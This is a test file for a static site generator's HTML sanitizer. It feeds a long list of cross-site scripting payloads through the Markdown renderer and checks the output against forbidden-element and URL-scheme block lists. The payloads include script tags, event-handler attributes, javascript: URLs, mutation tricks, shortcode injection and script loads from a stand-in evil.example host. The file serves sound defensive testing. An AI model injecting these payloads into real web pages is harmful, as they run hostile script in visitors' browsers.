"""Row 29: HTML from writers who are not trusted, where `raw_html = "sanitize"` cleans it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pectin.build.configuration.model import MarkdownOptions
from pectin.build.content.front_matter import parse_document
from pectin.build.content.markdown import MarkdownRenderer
from pectin.build.content.sanitizing import Sanitizer
from pectin.build.content.shortcodes import ShortcodeCall

RENDERER = MarkdownRenderer(MarkdownOptions(raw_html="sanitize", heading_anchors=True))

FORBIDDEN = frozenset(
    """applet audio base body button embed form frame frameset head html iframe link listing math meta
    noembed noframes noscript object option param plaintext script select style svg template textarea
    title track video xmp""".split()  # noqa: SIM905 - a list for readers
)
URLS = frozenset({"action", "cite", "data", "formaction", "href", "poster", "src", "xlink:href"})
RUNNING = frozenset({"javascript", "vbscript", "livescript", "data", "blob", "file", "filesystem"})

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' onerror='alert(1)' alt='",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=0 y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=javascript:alert(1)>",
    "<base href='javascript:/*'><a href='alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>",
    "<div style='background:url(javascript:alert(1))'>",
    "<div style='position:fixed;inset:0'>all of the page</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a class=x href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a title=\"> javascript:\" href='javascript:alert(1)'>x</a>",
    "<q cite=javascript:alert(1)>x</q>",
    "<!--><script>alert(1)</script>-->",
    "<!--x--!><img src=x onerror=alert(1)>-->",
    "<!-- more --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?x <script>alert(1)</script> ?>",
    "<!ENTITY x '<script>alert(1)</script>'>",
    "<x/onclick=alert(1)>x",
    "<p/onclick=alert(1)>x",
    "<a\x00href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<pre data-pectin-made='0'></pre><pre data-pectin-made='99'></pre>",
    "<h1 \t\t\t onclick=alert(1)>x</h1>",
    "# x {onclick=alert(1)}",
    "p\n{onclick=alert(1) style=x}",
    "[x](javascript:alert(1)) ![x](data:text/html,x)",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>\n",
    "- [ ] <img src=x onerror=alert(1)>",
    "| <b onclick=alert(1)>x |\n|---|\n| <script>alert(1)</script> |",
    "> [!NOTE]\n> <svg onload=alert(1)>\n",
    "```html\n<script>alert(1)</script>\n```",
    "<div>\n\n```js\nalert(1)\n```\n\n<img src=x onerror=alert(1)>\n",
]


class Reader(HTMLParser):
    """What a browser finds: (element, attribute, value)."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.found: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.found += [(tag, name, value or "") for name, value in attrs]


def scheme_of(url: str) -> str:
    seen = re.sub("[\t\n\r]", "", url.strip("".join(map(chr, range(0x21)))))
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", seen)
    return scheme[1].lower() if scheme else ""


def check_harmless(html: str) -> None:
    page = Reader(html)
    assert not page.elements & FORBIDDEN, html
    for element, attribute, value in page.found:
        assert not attribute.startswith("on"), html
        assert attribute not in {"style", "srcdoc", "formaction", "action", "background"}, html
        if attribute in URLS:
            is_picture = element == "img" and value.lower().startswith("data:image/")
            assert is_picture or scheme_of(value) not in RUNNING, html


def render(body: str, path: str = "content/a.md", renderer: MarkdownRenderer = RENDERER) -> str:
    document, _ = parse_document(path, f"\n{body}", ())
    content, _ = renderer.render_content(
        document, resolve_link=lambda target: target, render_shortcode=echo
    )
    titles = "".join(title for _, _, title in content.headings)
    return content.html + content.summary + titles


def echo(call: ShortcodeCall) -> str:
    """A shortcode that writes what it was given, as a template would, in quotes of its own."""
    text = str(call.arguments.get("text", ""))
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return f'<b class="echo">{escaped}</b>' if call.name == "box" else escaped


@pytest.mark.parametrize("path", ["content/a.md", "content/a.html"])
@pytest.mark.parametrize("body", VECTORS)
def test_no_known_trick_gets_through(body: str, path: str) -> None:
    check_harmless(render(body, path))
    check_harmless(render(f"a *{body}* b", path))


@pytest.mark.parametrize("path", ["content/a.md", "content/a.html"])
@pytest.mark.parametrize(
    "body",
    [
        "<a href='{{ say(text=\"javascript:alert(1)\") }}'>x</a>",
        "<a title='>' href='{{ say(text=\"javascript:alert(1)\") }}'>x</a>",
        "<a href='java{{ say(text=\"script:alert(1)\") }}'>x</a>",
        "<img src=x title='> {{ box(text=\" onerror=alert(1) \") }}'>",
        "<img src=x title=\"{{ box(text=' onerror=alert(1) ') }}\">",
        '<img src=x {{ say(text="onerror=alert(1)") }}>',
        '<{{ say(text="script") }}>alert(1)</{{ say(text="script") }}>',
        '<!-- {{ box(text="x") }} --><p>',
    ],
)
def test_no_shortcode_is_made_a_tool(body: str, path: str) -> None:
    check_harmless(render(body, path))


MIXTURE = st.lists(
    st.sampled_from(
        ["<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>",
         "<table>", "<p>", "</p>", "<b onclick=x>", "</b>", "<img src=x onerror=x>", "<a href='", "javascript:",
         "'>", '<a title="', '">', "</a>", "<!--", "-->", "<!-- more -->", "<![CDATA[", "]]>", "<textarea>",
         "<noscript>", "<template>", "<pre data-pectin-made='0'></pre>", "`", "```\n", "\n", "\n\n", "    ",
         "> ", "- ", "[x](", ")", "[^1]", "[^1]: ", "|", "&lt;", "&#60;", "&quot;", "x", " ", "{onx=1}",
         '{{ say(text="javascript:") }}', '{{ box(text="x") }}', "<", ">", "/", "="]
    ),
    max_size=16,
).map("".join)  # fmt: skip


@given(MIXTURE, st.sampled_from(["content/a.md", "content/a.html"]))
def test_no_mixture_of_tricks_gets_through(body: str, path: str) -> None:
    check_harmless(render(body, path))


@given(MIXTURE)
def test_what_was_cleaned_is_clean(html: str) -> None:
    sanitizer = Sanitizer()
    cleaned = sanitizer.clean(html)
    assert sanitizer.clean(cleaned) == cleaned
